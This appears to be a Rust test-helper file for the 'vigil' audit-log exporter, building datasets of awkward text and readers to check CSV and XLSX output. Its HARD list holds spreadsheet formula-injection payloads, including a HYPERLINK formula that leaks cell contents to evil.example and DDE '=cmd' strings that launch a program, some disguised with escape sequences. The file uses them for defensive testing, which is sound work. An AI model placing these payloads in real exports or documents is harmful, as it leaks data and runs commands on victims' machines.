//! Datasets full of hard text, and the independent readers.

use std::path::PathBuf;
use std::process::Command;

use proptest::strategy::{Strategy, ValueTree};
use proptest::test_runner::{Config, TestRunner};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};
use vigil_core::StoredEvent;

/// Texts that break naive exporters.
pub const HARD: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1-555-0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB first",
    "\rCR first",
    "'already quoted",
    "'=quoted formula",
    "=cmd|' /C calc'!A0",
    "مرحبا بالعالم — Arabic, right to left",
    "שלום עולם",
    "emoji 🎰💸👩‍💻🏳️‍🌈",
    "line one\nline two\r\nline three",
    "quotes \"double\" and 'single', commas, ; semicolons",
    "  leading and trailing spaces  ",
    "Crème brûlée à la demande du joueur",
    "literal _x0041_ escape lookalike",
    "lookalike then a control _x0041\u{1} _x003D\r _xBEEF\u{FFFE} and _x0041",
    "_x003D\u{7}cmd|' /C calc'!A0",
    "控えめな 中文 텍스트",
    "",
];

fn stored(seq: u64, body: Value) -> StoredEvent {
    let mut v = json!({
        "seq": seq,
        "received_at": "2026-11-26T10:00:00.000001Z",
        "hash": format!("{seq:064x}"),
        "id": format!("0192b7a0-0000-7000-8000-{seq:012x}"),
        "occurred_at": format!("2026-11-26T09:{:02}:{:02}.{:06}Z", seq % 60, (seq * 7) % 60, seq * 1234 % 1_000_000),
        "actor": {"id": "m.dupont"},
        "action": "player.balance.adjust",
        "kind": "change",
        "section": "finance",
        "severity": "info",
        "outcome": "success",
    });
    for (k, val) in body.as_object().unwrap() {
        v[k] = val.clone();
    }
    serde_json::from_value(v).unwrap()
}

/// JSON parsed from text: numbers keep the digits as written (`100.10`).
fn exact(text: &str) -> Value {
    serde_json::from_str(text).unwrap()
}

/// An entry whose reason is `text`.
pub fn entry_with_reason(seq: u64, text: &str) -> StoredEvent {
    stored(seq, json!({"reason": text}))
}

/// Entries with every field set to hard text somewhere, exact numbers in changes and details,
/// critical and ordinary ones, and entries with optional fields missing.
pub fn entries() -> Vec<StoredEvent> {
    let mut out = Vec::new();
    for (i, text) in HARD.iter().enumerate() {
        let seq = i as u64 + 1;
        let severity = if i % 4 == 0 { "critical" } else { "info" };
        out.push(stored(
            seq,
            json!({
                "severity": severity,
                "actor": {"id": format!("agent.{i}"), "name": text, "role": "=role", "kind": "staff"},
                "target": {"type": "player", "id": format!("-{seq}"), "name": text},
                "ip": if i % 2 == 0 { "203.0.113.7" } else { "2001:db8::1" },
                "reason": text,
                "user_agent": text,
                "session_id": "@session",
                "request_id": format!("+req-{i}"),
                "sender": text,
                "on_behalf_of": if i % 3 == 0 {
                    json!({"type": "player", "id": text, "name": text})
                } else {
                    json!({"id": format!("=m-{i}")})
                },
                "correlation_id": text,
                "source_seq": if i % 2 == 0 { json!(vigil_core::validate::MAX_SOURCE_SEQ) } else { json!(i) },
                "stream": if i % 2 == 0 { json!(text) } else { Value::Null },
                "changes": [
                    exact(r#"{"field": "balance", "before": 100.10, "after": 12345678901234567890}"#),
                    {"field": "note", "before": null, "after": text},
                ],
                "details": {"comment": text, "amount": -5, "nested": {"list": [1, "=2"]}},
            }),
        ));
    }
    out.push(stored(HARD.len() as u64 + 1, json!({})));
    out
}

/// `n` generated texts, the same on every run: any printable text, and texts that start like
/// formulas.
pub fn nasty_texts(n: usize) -> Vec<String> {
    let mut runner = TestRunner::new(Config {
        rng_seed: proptest::test_runner::RngSeed::Fixed(0x5EED),
        ..Config::default()
    });
    let strategy =
        proptest::string::string_regex("\\PC{0,30}|[=+\\-@\t\r'][^\u{0}]{0,20}").unwrap();
    (0..n)
        .map(|_| strategy.new_tree(&mut runner).unwrap().current())
        .collect()
}

/// Every record of a CSV file, as read by the csv crate.
pub fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

pub fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// The Python with openpyxl that `scripts/setup` installs (or `VIGIL_PYTHON`).
pub fn python() -> PathBuf {
    if let Some(p) = std::env::var_os("VIGIL_PYTHON") {
        return p.into();
    }
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../.tools/py/bin/python");
    assert!(
        p.exists(),
        "{} is missing: run scripts/setup (it installs openpyxl there) or set VIGIL_PYTHON",
        p.display()
    );
    p
}

/// What openpyxl reads in an XLSX file (see xlsx_dump.py).
pub fn xlsx_dump(bytes: &[u8]) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("export.xlsx");
    std::fs::write(&file, bytes).unwrap();
    let script = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/export/xlsx_dump.py");
    let out = Command::new(python())
        .arg(script)
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "openpyxl could not read the file: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}
